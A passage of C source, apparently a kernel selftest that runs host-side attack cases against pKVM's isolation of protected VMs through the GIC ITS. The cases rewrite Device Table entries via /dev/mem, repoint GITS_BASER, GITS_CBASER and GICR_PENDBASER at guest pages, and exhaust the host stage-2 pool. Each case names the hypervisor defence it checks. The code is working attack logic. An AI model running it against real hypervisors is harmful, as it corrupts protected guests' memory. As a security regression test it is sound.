 *    guest then takes T, and MAPTI writes into it.
 *
 * 2. The host maps a device with its ITT in page T2, disables the ITS, queues
 *    MAPTI and MAPD V=0 (the ITS does not run them while disabled), lets the
 *    guest take T2, and enables the ITS again: MAPTI writes into T2.
 *
 * The hypervisor must track ITT pages per device from its own records, not
 * from the fields of the MAPD V=0 (pages of a remap without V=0 included),
 * check or rewrite a V=0 so that the ITS really unmaps the device, and only
 * release the pages once the ITS has executed it (GITS_CREADR past it).
 */
static void attack_mapd_remap_bookkeeping(void *arg)
{
	struct attack_ctx *c = arg;
	u32 dev2 = c->devid - 1, w;
	u64 t = c->v.pa[LATE_PAGE], t2 = c->v.pa[LATE_PAGE2], *dte, val;
	struct its_cmd cmd[3];

	cmd_mapd(&cmd[0], c->devid, c->host_pa[0], 0, true);
	cmd_mapd(&cmd[1], c->devid, t, 0, true);
	cmd_mapd(&cmd[2], c->devid, c->host_pa[0], 31, false);
	if (its_send(c, cmd, 3))
		return;

	dte = gic.qemu && gic.dt.esz == 8 ? table_entry(&gic.dt, c->devid) : NULL;
	val = dte ? READ_ONCE(*dte) : 0;
	if (dte)
		ksft_print_msg("Device Table entry after the bad MAPD V=0: 0x%lx (%s)\n", val,
			       val & QEMU_DTE_VALID ? "valid" : "invalid");

	cmd_mapd(&cmd[0], dev2, t2, 0, true);
	if (its_send(c, cmd, 1))
		return;

	if (its_wait_idle(&w))
		return;
	its_disable(c);
	cmd_mapti(&cmd[0], dev2, 0, c->lpi, 0);
	cmd_mapd(&cmd[1], dev2, 0, 0, false);
	queue_put(w, &cmd[0]);
	queue_put(w + 1, &cmd[1]);
	wr32(gic.its, GITS_CWRITER, ((w + 2) % gic.cq_slots) * ITS_CMD_SIZE);

	victim_donate(c);

	its_enable(c);
	/* Some ITSes only look at the queue again when GITS_CWRITER is written. */
	wr32(gic.its, GITS_CWRITER, ((w + 2) % gic.cq_slots) * ITS_CMD_SIZE);
	if (its_wait_read((w + 2) % gic.cq_slots) ||
	    its_sync_to((w + 2) % gic.cq_slots, w))
		c->res->its_failed = -EIO;

	if (c->res->donation_refused) {
		cmd_mapd(&cmd[0], c->devid, 0, 0, false);
		its_send(c, cmd, 1);
		return;
	}
	if (c->v.pa[LATE_PAGE] != t)
		case_set(c, CASE_NA, "the page moved when the guest took it");

	cmd_mapti(&cmd[0], c->devid, 0, c->lpi, 0);
	cmd_mapd(&cmd[1], c->devid, 0, 0, false);
	its_send(c, cmd, 2);
}

/*
 * Attack: dte_rewrite
 *
 * The host maps a device with its ITT in a host page, then rewrites that live
 * Device Table entry through /dev/mem so that its ITT address points at a page
 * of the pVM, then sends MAPTI: the ITS takes the ITT address from the table
 * and writes the ITE into the guest. The Device Table entry format is
 * IMPLEMENTATION DEFINED; QEMU's is recognised.
 *
 * The hypervisor must own the Device and Collection Tables, level-2 pages
 * included, so that the host cannot write them at all.
 */
static void attack_dte_rewrite(void *arg)
{
	struct attack_ctx *c = arg;
	u64 *dte, saved, expect;
	struct its_cmd cmd[2];

	if (!gic.qemu || gic.dt.esz != 8) {
		case_set(c, CASE_NA, "unknown Device Table entry format (IMPLEMENTATION DEFINED)");
		return;
	}

	cmd_mapd(&cmd[0], c->devid, c->host_pa[0], 0, true);
	if (its_send(c, cmd, 1))
		return;

	dte = table_entry(&gic.dt, c->devid);
	if (dte) {
		saved = READ_ONCE(*dte);
		expect = QEMU_DTE_VALID | FIELD_PREP(QEMU_DTE_ITT, c->host_pa[0] >> 8);
		if (saved != expect)
			ksft_print_msg("Device Table entry 0x%lx, expected 0x%lx\n", saved, expect);
		WRITE_ONCE(*dte, QEMU_DTE_VALID |
			   FIELD_PREP(QEMU_DTE_ITT, c->v.pa[TARGET_PAGE] >> 8));
		cmd_mapti(&cmd[0], c->devid, 0, c->lpi, 0);
		its_send(c, cmd, 1);
		WRITE_ONCE(*dte, saved);
	} else {
		ksft_print_msg("no Device Table entry for DeviceID 0x%x\n", c->devid);
	}

	cmd_mapd(&cmd[0], c->devid, 0, 0, false);
	its_send(c, cmd, 1);
}

/*
 * Attack: dt_l1_in_pvm
 *
 * The Device Table is two-level. The host marks an unused level-1 entry valid
 * with the address of a page of the pVM, then sends MAPD for a DeviceID that
 * this entry covers: the ITS writes the Device Table entry into the guest
 * (at 0x40 in the page). Then the host changes the address of a level-1 entry
 * that is valid, and stays valid, to that page, and sends MAPD again: the ITS
 * writes into the guest again (at 0xe00), until the entry is put back.
 *
 * The hypervisor must own the level-1 table and fill its entries itself, with
 * level-2 pages it owns, and check both a change of Valid and a change of the
 * address of an entry that stays valid.
 */
static void attack_dt_l1_in_pvm(void *arg)
{
	struct attack_ctx *c = arg;
	u64 epp = gic.dt.psz / gic.dt.esz, nr_l1, *l1, moved, pa = c->v.pa[TARGET_PAGE];
	struct its_cmd cmd[2];
	int i, unused = -1, used = -1;
	u32 devid;

	if (!gic.dt.indirect) {
		case_set(c, CASE_NA, "the Device Table is flat");
		return;
	}

	l1 = map_phys(gic.dt.pa, gic.dt.size);
	TEST_ASSERT(l1, "Cannot map the level-1 Device Table");
	nr_l1 = min_t(u64, gic.dt.size / 8, DIV_ROUND_UP(BIT_ULL(gic.dev_bits), epp));
	for (i = nr_l1 - 1; i >= 0; i--) {
		if (!READ_ONCE(l1[i]) && unused < 0)
			unused = i;
		if (READ_ONCE(l1[i]) & GITS_L1E_VALID)
			used = i;
	}
	if (unused < 0 && used < 0) {
		case_set(c, CASE_NA, "no level-1 Device Table entry to use");
		return;
	}

	if (unused >= 0) {
		devid = unused * epp + 0x40 / gic.dt.esz;
		ksft_print_msg("unused level-1 entry %d -> 0x%lx, MAPD 0x%x\n", unused, pa, devid);
		c->l1e_saved = 0;
		c->l1e = &l1[unused];
		WRITE_ONCE(l1[unused], GITS_L1E_VALID | pa);
		cmd_mapd(&cmd[0], devid, c->host_pa[0], 0, true);
		cmd_mapd(&cmd[1], devid, 0, 0, false);
		its_send(c, cmd, 2);
		WRITE_ONCE(l1[unused], 0);
		c->l1e = NULL;
	}

	if (used >= 0) {
		devid = used * epp + 0xe00 / gic.dt.esz;
		c->l1e_saved = READ_ONCE(l1[used]);
		moved = (c->l1e_saved & ~GITS_L1E_ADDR) | pa;
		ksft_print_msg("valid level-1 entry %d: 0x%lx -> 0x%lx, MAPD 0x%x\n", used,
			       c->l1e_saved, moved, devid);
		c->l1e = &l1[used];
		WRITE_ONCE(l1[used], moved);
		cmd_mapd(&cmd[0], devid, c->host_pa[0], 0, true);
		cmd_mapd(&cmd[1], devid, 0, 0, false);
		its_send(c, cmd, 2);
		WRITE_ONCE(l1[used], c->l1e_saved);
		c->l1e = NULL;
	}
}

/*
 * Point GITS_BASER<n> of @t at the victim's page (one flat 4 KiB page), with
 * the ITS disabled as the architecture requires, send @cmds, and restore.
 */
static void baser_repoint(struct attack_ctx *c, struct its_table *t, const struct its_cmd *cmds,
			  u32 n)
{
	u64 orig, val, off = GITS_BASER + 8 * t->idx;

	orig = rd64(gic.its, off);
	val = orig & ~(GITS_BASER_INDIRECT | GITS_BASER_ADDR_4K | GITS_BASER_PAGE_SIZE_MASK |
		       GITS_BASER_PAGES);
	val |= (c->v.pa[TARGET_PAGE] & GITS_BASER_ADDR_4K) | GITS_BASER_PAGE_SIZE_4K;

	its_disable(c);
	c->baser_saved = orig;
	c->baser_idx = t->idx;
	wr64(gic.its, off, val);
	ksft_print_msg("GITS_BASER%d: 0x%lx -> 0x%lx (read back 0x%lx)\n", t->idx, orig, val,
		       rd64(gic.its, off));
	its_enable(c);

	its_send(c, cmds, n);

	its_disable(c);
	wr64(gic.its, off, orig);
	c->baser_idx = -1;
	its_enable(c);
}

/*
 * Attack: baser_ct_in_pvm
 *
 * The host disables the ITS, waits for it to be quiescent, points the
 * Collection Table's GITS_BASER<n> at a page of the pVM and enables the ITS
 * again; then MAPC writes a Collection Table entry at base + ICID x 8, i.e.
 * into the guest.
 *
 * The hypervisor must own GITS_BASER<n> (and GITS_CTLR), keep the tables it
 * allocated in them, and refuse or ignore host writes.
 */
static void attack_baser_ct_in_pvm(void *arg)
{
	struct attack_ctx *c = arg;
	struct its_cmd cmd[2];

	if (gic.ct.idx < 0) {
		case_set(c, CASE_NA, "the ITS has no Collection Table in memory");
		return;
	}

	cmd_mapc(&cmd[0], 64, gic.rd0_target, true);
	cmd_mapc(&cmd[1], 64, 0, false);
	baser_repoint(c, &gic.ct, cmd, 2);
}

/*
 * Attack: baser_dt_in_pvm
 *
 * As baser_ct_in_pvm, for the Device Table: with its GITS_BASER<n> pointing
 * at a page of the pVM (flat), MAPD writes the Device Table entry into it.
 */
static void attack_baser_dt_in_pvm(void *arg)
{
	struct attack_ctx *c = arg;
	struct its_cmd cmd[2];

	cmd_mapd(&cmd[0], 0x1c0, c->host_pa[0], 0, true);
	cmd_mapd(&cmd[1], 0x1c0, 0, 0, false);
	baser_repoint(c, &gic.dt, cmd, 2);
}

/*
 * Attack: cbaser_foreign_queue
 *
 * The host disables the ITS, points GITS_CBASER at a one-page command queue
 * of its own that the hypervisor knows nothing about, enables the ITS and
 * runs MAPD (ITT in a pVM page) and MAPTI from there: no check of commands
 * in the driver's queue can see them.
 *
 * The hypervisor must own GITS_CBASER and the queue the ITS reads, and only
 * let commands it has checked into it.
 */
static void attack_cbaser_foreign_queue(void *arg)
{
	struct attack_ctx *c = arg;
	struct its_cmd cmd[3];
	u64 val;
	u32 w;
	int i;

	cmd_mapd(&cmd[0], c->devid, c->v.pa[TARGET_PAGE], 0, true);
	cmd_mapti(&cmd[1], c->devid, 0, c->lpi, 0);
	cmd_mapd(&cmd[2], c->devid, 0, 0, false);
	for (i = 0; i < 3; i++)
		memcpy(c->host + i * ITS_CMD_SIZE, &cmd[i], sizeof(cmd[i]));

	if (its_wait_idle(&w)) {
		c->res->its_failed = -EBUSY;
		return;
	}

	c->cbaser_saved = rd64(gic.its, GITS_CBASER);
	c->cq_slot_saved = w;
	val = c->cbaser_saved & ~(GITS_QUEUE_ADDR | GITS_QUEUE_PAGES);
	val |= c->host_pa[0] | GITS_CBASER_VALID;

	its_disable(c);
	c->cbaser_changed = 1;
	wr64(gic.its, GITS_CBASER, val);
	wr32(gic.its, GITS_CWRITER, 0);
	its_enable(c);
	ksft_print_msg("GITS_CBASER 0x%lx -> 0x%lx (read back 0x%lx)\n", c->cbaser_saved, val,
		       rd64(gic.its, GITS_CBASER));

	wr32(gic.its, GITS_CWRITER, 3 * ITS_CMD_SIZE);
	if (its_wait_read(3))
		ksft_print_msg("the ITS did not run the foreign queue\n");

	its_restore(c);
}

/*
 * Attack: mmio_recycle
 *
 * The host makes pKVM run out of page-table pages for the host stage-2: it
 * touches one address in each of thousands of 512 GiB blocks above the last
 * device of the machine, each of which costs the hypervisor a level-1 table,
 * until host_stage2_unmap_dev_all() drops every MMIO mapping of the host to
 * refill the pool. It then touches the GIC distributor, the ITS translation
 * frame and a redistributor's SGI frame, right next to the frames the
 * hypervisor took, so that the lazy re-mapping builds the largest blocks it
 * can around those, and runs cbaser_foreign_queue through the control frame.
 * Where the hypervisor reports its recycles (pkvm_its_stats in debugfs), the
 * case fails unless the pool did run dry.
 *
 * The hypervisor must keep a donated frame out of the host stage-2 across a
 * recycle, and out of any block it maps around it afterwards.
 */
#define RECYCLE_START		BIT_ULL(40)	/* above QEMU's highest device */
#define RECYCLE_STRIDE		BIT_ULL(39)	/* one level-1 table each */
#define RECYCLE_MAX_BLOCKS	4096
#define RECYCLE_STATS		"/sys/kernel/debug/pkvm_its_stats"
#define RECYCLE_KEY		"host_mmio_recycles "

static ssize_t read_file(const char *path, void *buf, size_t len);
static int write_file(const char *path, const char *val);

/* A count the hypervisor reports in debugfs (first ITS), -1 if it does not. */
static long long its_stat(const char *key)
{
	char buf[4096], *p;
	ssize_t n = read_file(RECYCLE_STATS, buf, sizeof(buf) - 1);

	if (n <= 0)
		return -1;
	buf[n] = 0;
	p = strstr(buf, key);
	return p ? strtoll(p + strlen(key), NULL, 10) : -1;
}

/* The hypervisor's count of host MMIO recycles, -1 if it does not report one. */
static long long host_mmio_recycles(void)
{
	return its_stat(RECYCLE_KEY);
}

static void read_word(void *arg)
{
	rd32(arg, 0);
}

/*
 * Make the host stage-2 map the page at @pa, and read it: nothing may be
 * there, which the host sees as an external abort. False if /dev/mem
 * cannot map @pa (beyond the kernel's physical address range).
 */
static bool touch_phys(u64 pa)
{
	void *p = map_phys(pa, sizeof(u32));

	if (!p)
		return false;
	guarded(read_word, p);
	munmap((void *)((uintptr_t)p & ~(uintptr_t)(getpagesize() - 1)), getpagesize());
	return true;
}

static void attack_mmio_recycle(void *arg)
{
	struct attack_ctx *c = arg;
	long long before = host_mmio_recycles(), after = before;
	u64 pa = RECYCLE_START;
	int n;

	for (n = 0; n < RECYCLE_MAX_BLOCKS; n++, pa += RECYCLE_STRIDE) {
		if (!touch_phys(pa))
			break;
		if (before >= 0 && !(n % 128)) {
			after = host_mmio_recycles();
			if (after > before)
				break;
		}
	}
	after = host_mmio_recycles();
	ksft_print_msg("touched %d blocks of 512 GiB, host MMIO recycles %lld -> %lld\n",
		       n, before, after);
	if (before >= 0 && after <= before) {
		case_set(c, CASE_ERROR, "the host stage-2 pool did not run dry (%d blocks)", n);
		return;
	}

	touch_phys(gic.gicd_pa);
	touch_phys(gic.its_pa + SZ_64K);
	if (gic.nr_rd)
		touch_phys(gic.rd_pa[0] + SZ_64K);

	attack_cbaser_foreign_queue(arg);
}

/*
 * Attack: gicv4_vpt_in_pvm
 *
 * GICv4 only. The host maps a vPE whose virtual pending table (VMAPP VPT_addr,
 * 64 KiB aligned) is the block holding a page of the pVM, maps a device event
 * to a vLPI of that vPE (VMAPTI) and fires it (INT): with the vPE not
 * resident, the redistributor sets the vLPI's pending bit in memory, in the
 * guest's page. The vPE Table is two-level and unused in protected mode, so
 * the host also marks a level-1 entry valid with one of its pages, as the
 * driver would (the attack goes on if that is refused). GITS_SGIR, which
 * injects vSGIs into any vPE, needs GICv4.1.
 *
 * The hypervisor must check VPT_addr/VPT_size (and VCONF_addr on GICv4.1) of
 * every VMAPP against memory the host owns and pin it, like an ITT, and own
 * GITS_SGIR.
 */
struct store64 {
	u64 *addr;
	u64 val;
};

static void store64(void *arg)
{
	struct store64 *st = arg;

	wr64(st->addr, 0, st->val);
}

/*
 * Make a level-1 vPE Table entry valid, with a page of the host that is not
 * aligned to the table's page size (QEMU does not check). A hypervisor that
 * takes level-2 pages from the host refuses it, and the attack goes on
 * without it: given an aligned page, it would take the whole ITS page around
 * it, memory of the host that is still in use.
 */
static void vpe_l1e_set(struct attack_ctx *c, struct its_table *t, u64 *l1e)
{
	struct store64 st = { .addr = l1e };
	int i;

	/* Page 0 is the ITT of the case. */
	for (i = 1; i < NR_HOST_PAGES && !(c->host_pa[i] & (t->psz - 1)); i++)
		;
	if (i == NR_HOST_PAGES) {
		ksft_print_msg("no host page off a %u-byte boundary: level-1 entry left alone\n",
			       t->psz);
		return;
	}

	c->l1e_saved = READ_ONCE(*l1e);
	c->l1e = l1e;
	st.val = GITS_L1E_VALID | c->host_pa[i];
	if (guarded(store64, &st))
		ksft_print_msg("level-1 vPE Table entry refused\n");
}

static void attack_gicv4_vpt_in_pvm(void *arg)
{
	struct attack_ctx *c = arg;
	struct its_table *t = &gic.vt;
	u32 vpeid, vintid, vpt_size = gic.id_bits - 1;
	struct its_cmd cmd[4];
	u64 table, *l1e;
	int p;

	if (gic.version < 4 || !gic.vlpis) {
		case_set(c, CASE_NA, "GICv%d: the ITS has no virtual LPI support", gic.version);
		return;
	}
	if (!gic.v41)
		ksft_print_msg("GITS_SGIR not tried: it needs GICv4.1, this ITS is GICv4.0\n");

	p = pick_pending_page(c, BIT(gic.id_bits), &table, &vintid);
	if (p < 0) {
		case_set(c, CASE_NA, "no guest page in the first 8 KiB of a 64 KiB block");
		return;
	}

	vpeid = min_t(u64, t->idx < 0 ? BIT(16) : t->nr_ids, BIT(16)) - 2;
	if (t->idx >= 0 && t->indirect) {
		l1e = table_l1e(t, vpeid);
		TEST_ASSERT(l1e, "Cannot map the level-1 vPE Table");
		if (!(READ_ONCE(*l1e) & GITS_L1E_VALID))
			vpe_l1e_set(c, t, l1e);
	}
	ksft_print_msg("vPE %u, VPT 0x%lx, vINTID %u -> byte 0x%lx in guest page %d\n", vpeid,
		       table, vintid, table + vintid / 8, p);

	cmd_vmapp(&cmd[0], vpeid, gic.rd0_target, table, vpt_size, true);
	cmd_mapd(&cmd[1], c->devid, c->host_pa[0], 0, true);
	cmd_vmapti(&cmd[2], c->devid, 0, vpeid, vintid, INTID_NONE);
	cmd_event(&cmd[3], GITS_CMD_INT, c->devid, 0);
	if (!its_send(c, cmd, 4)) {
		/* No DISCARD: it would clear the bit in the guest again. */
		cmd_mapd(&cmd[0], c->devid, 0, 0, false);
		cmd_vmapp(&cmd[1], vpeid, gic.rd0_target, 0, 0, false);
		its_send(c, cmd, 2);
	}

	if (c->l1e) {
		WRITE_ONCE(*c->l1e, c->l1e_saved);
		c->l1e = NULL;
	}
}

/*
 * Attack: vlpi_vpendbaser_in_pvm
 *
 * GICv4.0 only. Each redistributor has a VLPI_base frame (RD_base + 128 KiB):
 * GICR_VPENDBASER names the virtual pending table of the vPE resident on that
 * CPU, GICR_VPROPBASER the vLPI configuration table. In protected mode KVM
 * does not use GICv4, and the frame stays the host's. The host points
 * GICR_VPROPBASER at a page of its own with every vLPI enabled at the highest
 * priority, and GICR_VPENDBASER, Valid, at a page of the pVM that starts a
 * 64 KiB block: the canary there reads as pending vLPIs. Then it runs the vCPU
 * of an ordinary VM on that CPU, whose guest reads ICV_IAR1_EL1: the CPU
 * interface acknowledges the highest pending vLPI, and the redistributor
 * clears its bit, in the guest's page. The guest first makes an SGI pending,
 * so that KVM enables the virtual CPU interface (ICH_HCR_EL2.En).
 *
 * The hypervisor must own the VLPI_base frame of every redistributor, like
 * GICR_PROPBASER and GICR_PENDBASER, and refuse host writes to it.
 */
#define VLPI_ID_BITS		14	/* vINTIDs 8192..16383: bytes 1024..2047 */
#define VLPI_SGI		1
#define VLPI_MAX_ACKS		16
#define VLPI_PROP		(LPI_PROP_GROUP1 | LPI_PROP_ENABLED)	/* priority 0 */

static void vlpi_guest(void)
{
	u32 intid = IAR_SPURIOUS, first = 0, acked = 0, i;

	gic_init(GIC_V3, 1);
	gic_irq_enable(VLPI_SGI);
	/* A trapped write: KVM then puts the SGI in a list register. */
	gic_irq_set_pending(VLPI_SGI);

	for (i = 0; i < VLPI_MAX_ACKS; i++) {
		intid = gic_get_and_ack_irq();
		if (intid == IAR_SPURIOUS)
			break;
		gic_set_eoi(intid);
		if (intid < LPI_BASE)
			break;
		if (!acked++)
			first = intid;
	}

	GUEST_SYNC_ARGS(0, acked, first, intid, 0);
	GUEST_DONE();
}

/* A host page for the vLPI configuration, followed by another if possible */
static u64 vlpi_prop_table(struct attack_ctx *c)
{
	int i, j;

	for (i = 1; i < NR_HOST_PAGES; i++) {
		for (j = 1; j < NR_HOST_PAGES; j++) {
			if (c->host_pa[j] != c->host_pa[i] + getpagesize())
				continue;
			memset(c->host + i * getpagesize(), VLPI_PROP, getpagesize());
			memset(c->host + j * getpagesize(), VLPI_PROP, getpagesize());
			return c->host_pa[i];
		}
	}
	ksft_print_msg("no two adjacent host pages: vINTIDs 12288 and up get random settings\n");
	memset(c->host + getpagesize(), VLPI_PROP, getpagesize());
	return c->host_pa[1];
}

static void attack_vlpi_vpendbaser_in_pvm(void *arg)
{
	struct attack_ctx *c = arg;
	u64 vprop_saved, vpend_saved, prop;
	cpu_set_t set, saved;
	struct kvm_vcpu *vcpu;
	struct kvm_vm *vm;
	struct ucall uc;
	int i, p, cpu;
	void *vlpi;

	if (gic.version < 4 || !gic.rd[0] || !(rd64(gic.rd[0], GICR_TYPER) & GICR_TYPER_VLPIS)) {
		case_set(c, CASE_NA, "GICv%d: no VLPI_base frame (GICR_TYPER.VLPIS=0)",
			 gic.version);
		return;
	}
	if (gic.v41) {
		case_set(c, CASE_NA, "GICv4.1: GICR_VPENDBASER names a vPE, not a table");
		return;
	}

	for (p = 0; p < NR_TARGET; p++)
		if (page_in(c->v.touch[0], p) && !(c->v.pa[p] & (SZ_64K - 1)))
			break;
	if (p == NR_TARGET) {
		case_set(c, CASE_NA, "no guest page at a 64 KiB boundary");
		return;
	}

	/* The last CPU this process can run on */
	TEST_ASSERT(!sched_getaffinity(0, sizeof(saved), &saved), "sched_getaffinity()");
	for (cpu = gic.nr_rd - 1; cpu >= 0; cpu--) {
		CPU_ZERO(&set);
		CPU_SET(gic.rd_cpu[cpu], &set);
		if (!sched_setaffinity(0, sizeof(set), &set))
			break;
	}
	if (cpu < 0) {
		case_set(c, CASE_ERROR, "cannot run on the CPU of any redistributor");
		return;
	}

	vlpi = gic.rd[cpu] + GICR_VLPI_BASE;
	vprop_saved = rd64(vlpi, GICR_VPROPBASER);
	vpend_saved = rd64(vlpi, GICR_VPENDBASER);
	if (vpend_saved & GICR_VPENDBASER_VALID) {
		case_set(c, CASE_NA, "a vPE is resident on CPU %u", gic.rd_cpu[cpu]);
		goto out;
	}

	prop = vlpi_prop_table(c);
	wr64(vlpi, GICR_VPROPBASER, prop | (VLPI_ID_BITS - 1));
	wr64(vlpi, GICR_VPENDBASER, (c->v.pa[p] & GICR_VPENDBASER_ADDR) | GICR_VPENDBASER_VALID);
	ksft_print_msg("CPU %u: GICR_VPROPBASER 0x%lx, GICR_VPENDBASER 0x%lx (guest page %d)\n",
		       gic.rd_cpu[cpu], rd64(vlpi, GICR_VPROPBASER), rd64(vlpi, GICR_VPENDBASER),
		       p);

	vm = vm_create_with_one_vcpu(&vcpu, vlpi_guest);
	vgic_v3_setup(vm, 1, 64);
	vcpu_run(vcpu);
	switch (get_ucall(vcpu, &uc)) {
	case UCALL_SYNC:
		ksft_print_msg("a VM on CPU %u acknowledged %lu vLPIs: first %lu, last INTID %lu\n",
			       gic.rd_cpu[cpu], uc.args[2], uc.args[3], uc.args[4]);
		break;
	case UCALL_ABORT:
		ksft_print_msg("vLPI guest: assert at line %lu: %s\n", uc.args[GUEST_LINE],
			       uc.buffer);
		break;
	default:
		ksft_print_msg("vLPI guest: unexpected exit %s\n",
			       exit_reason_str(vcpu->run->exit_reason));
	}
	kvm_vm_free(vm);

	/* Valid back to 0: the redistributor lets go of the guest's page. */
	wr64(vlpi, GICR_VPENDBASER, vpend_saved);
	wr64(vlpi, GICR_VPROPBASER, vprop_saved);
	for (i = 0; i < NR_HOST_PAGES; i++)
		memset(c->host + i * getpagesize(), 0, getpagesize());
out:
	sched_setaffinity(0, sizeof(saved), &saved);
}

/*
 * Attack: pendbaser_in_pvm
 *
 * The host points GICR_PENDBASER of a redistributor, which QEMU accepts while
 * LPIs are enabled, at the 64 KiB block holding a page of the pVM, maps an
 * event to an LPI of a collection on that redistributor and fires it (INT):
 * the redistributor sets the LPI's pending bit, in the guest's page.
 * GICR_PROPBASER is only read by the GIC, so pointing it at the guest leaks
 * (LPI configuration bits) but does not corrupt; it is not tried here.
 *
 * The hypervisor must own GICR_PROPBASER and GICR_PENDBASER of every
 * redistributor (and GICR_VPROPBASER/GICR_VPENDBASER on GICv4), with tables
 * it allocated or checked and pinned.
 */
static void attack_pendbaser_in_pvm(void *arg)
{
	struct attack_ctx *c = arg;
	void *rd = gic.rd[0];
	u64 table, orig, val;
	struct its_cmd cmd[3];
	u32 intid, limit;
	int p;

	if (!rd) {
		case_set(c, CASE_NA, "no redistributor found");
		return;
	}
	limit = min_t(u32, gic.lpi_limit,
		      BIT(FIELD_GET(GICR_PROPBASER_ID_BITS, rd64(rd, GICR_PROPBASER)) + 1));
	p = pick_pending_page(c, limit, &table, &intid);
	if (p < 0) {
		case_set(c, CASE_NA, "no guest page in the first 8 KiB of a 64 KiB block");
		return;
	}

	cmd_mapc(&cmd[0], gic.my_icid, gic.rd0_target, true);
	cmd_mapd(&cmd[1], c->devid, c->host_pa[0], 0, true);
	cmd_mapti(&cmd[2], c->devid, 0, intid, gic.my_icid);
	if (its_send(c, cmd, 3))
		return;

	orig = rd64(rd, GICR_PENDBASER);
	val = (orig & ~(GICR_PENDBASER_ADDR | GICR_PENDBASER_PTZ)) | table;
	c->pendbaser_saved = orig;
	c->pendbaser_rd = rd;
	wr64(rd, GICR_PENDBASER, val);
	ksft_print_msg("GICR_PENDBASER 0x%lx -> 0x%lx (read back 0x%lx)\n", orig, val,
		       rd64(rd, GICR_PENDBASER));
	ksft_print_msg("LPI %u -> byte 0x%lx in guest page %d\n", intid, table + intid / 8, p);

	cmd_event(&cmd[0], GITS_CMD_INT, c->devid, 0);
	its_send(c, cmd, 1);

	wr64(rd, GICR_PENDBASER, orig);
	c->pendbaser_rd = NULL;

	/* Clear the LPI in the host's own pending table, then unmap. */
	cmd_event(&cmd[0], GITS_CMD_DISCARD, c->devid, 0);
	cmd_mapd(&cmd[1], c->devid, 0, 0, false);
	cmd_mapc(&cmd[2], gic.my_icid, 0, false);
	its_send(c, cmd, 3);
}

/*
 * Attack: late_rdist
 *
 * A redistributor whose CPU was offline when the hypervisor took the ITS over
 * never had its LPI tables programmed (booted with maxcpus=1, pKVM then
 * refuses to start CPU1 at all). The host programs them: GICR_PROPBASER as
 * CPU0's, GICR_PENDBASER at the 64 KiB block holding a page of the pVM, and
 * sets GICR_CTLR.EnableLPIs; then it maps a collection to that redistributor
 * and fires an LPI on it (MAPTI, INT; GICR_SETLPIR too if the redistributor
 * has direct LPI injection): the redistributor sets the LPI's pending bit in
 * the guest's page. When every redistributor had LPIs enabled at boot, the
 * case is n/a.
 *
 * The hypervisor must take every redistributor at handover, its CPU online or
 * not, and either program its LPI tables itself, with memory it owns, or
 * refuse host writes to its GICR_CTLR.EnableLPIs, GICR_PROPBASER and
 * GICR_PENDBASER, and MAPC to it.
 */
static void attack_late_rdist(void *arg)
{
	struct attack_ctx *c = arg;
	u64 table, prop, prop_saved, pend_saved, target;
	struct its_cmd cmd[4];
	u32 intid, limit, ctlr;
	void *rd;
	int i, p;

	for (i = 0; i < gic.nr_rd; i++)
		if (!(rd32(gic.rd[i], GICR_CTLR) & GICR_CTLR_ENABLE_LPIS))
			break;
	if (i == gic.nr_rd) {
		case_set(c, CASE_NA, "LPIs on in all %d redistributors (maxcpus=1 leaves one out)",
			 gic.nr_rd);
		return;
	}
	rd = gic.rd[i];

	prop = rd64(gic.rd[0], GICR_PROPBASER);
	limit = min_t(u32, gic.lpi_limit, BIT(FIELD_GET(GICR_PROPBASER_ID_BITS, prop) + 1));
	p = pick_pending_page(c, limit, &table, &intid);
	if (p < 0) {
		case_set(c, CASE_NA, "no guest page in the first 8 KiB of a 64 KiB block");
		return;
	}

	ctlr = rd32(rd, GICR_CTLR);
	prop_saved = rd64(rd, GICR_PROPBASER);
	pend_saved = rd64(rd, GICR_PENDBASER);
	wr64(rd, GICR_PROPBASER, prop);
	c->pendbaser_saved = pend_saved;
	c->pendbaser_rd = rd;
	wr64(rd, GICR_PENDBASER, (rd64(gic.rd[0], GICR_PENDBASER) &
				  ~(GICR_PENDBASER_ADDR | GICR_PENDBASER_PTZ)) | table);
	wr32(rd, GICR_CTLR, ctlr | GICR_CTLR_ENABLE_LPIS);
	ksft_print_msg("redistributor %d (CPU %u) had LPIs off: GICR_CTLR 0x%x, GICR_TYPER 0x%lx\n",
		       i, gic.rd_cpu[i], rd32(rd, GICR_CTLR), rd64(rd, GICR_TYPER));
	ksft_print_msg("GICR_PROPBASER 0x%lx, GICR_PENDBASER 0x%lx\n", rd64(rd, GICR_PROPBASER),
		       rd64(rd, GICR_PENDBASER));
	ksft_print_msg("LPI %u -> byte 0x%lx in guest page %d\n", intid, table + intid / 8, p);

	/* With direct LPI injection the redistributor needs no ITS command. */
	if (rd64(rd, GICR_TYPER) & GICR_TYPER_DirectLPIS)
		wr64(rd, GICR_SETLPIR, intid);

	target = gic.pta ? gic.rd_pa[i] >> 16 : gic.rd_cpu[i];
	cmd_mapc(&cmd[0], gic.my_icid, target, true);
	cmd_mapd(&cmd[1], c->devid, c->host_pa[0], 0, true);
	cmd_mapti(&cmd[2], c->devid, 0, intid, gic.my_icid);
	cmd_event(&cmd[3], GITS_CMD_INT, c->devid, 0);
	if (!its_send(c, cmd, 4)) {
		/* No DISCARD: it would clear the bit in the guest again. */
		cmd_mapd(&cmd[0], c->devid, 0, 0, false);
		cmd_mapc(&cmd[1], gic.my_icid, 0, false);
		its_send(c, cmd, 2);
	}

	wr32(rd, GICR_CTLR, ctlr);
	wr64(rd, GICR_PENDBASER, pend_saved);
	wr64(rd, GICR_PROPBASER, prop_saved);
	c->pendbaser_rd = NULL;
}

/*
 * ITT space the hypervisor accepts. A hypervisor may let the ITS write only
 * pages that the host's ITS driver claimed for ITTs. A root user finds one by
 * rebinding the virtio-rng PCI function: the driver maps the device again,
 * and its MAPD, with the ITT address, shows in the command queue. The driver
 * takes small ITTs from the start of pool pages; the cases use the end of the
 * page, where it is unused (zero).
 */
#define RNG_DRIVER		"/sys/bus/virtio/drivers/virtio_rng"
#define VIRTIO_PCI_DRIVER	"/sys/bus/pci/drivers/virtio-pci"
#define RNG_QUALITY		"/sys/class/misc/hw_random/rng_quality"

/* The PCI function of the virtio-rng device, as "0000:00:02.0" */
static int rng_pci_function(char *bdf, size_t len)
{
	char path[PATH_MAX], real[PATH_MAX], *p;
	DIR *dir = opendir(RNG_DRIVER);
	struct dirent *d;
	int found = 0;

	while (dir && !found && (d = readdir(dir))) {
		snprintf(path, sizeof(path), "%s/%s", RNG_DRIVER, d->d_name);
		if (strncmp(d->d_name, "virtio", 6) || !realpath(path, real))
			continue;
		/* .../0000:00:02.0/virtio1 */
		p = strrchr(real, '/');
		*p = 0;
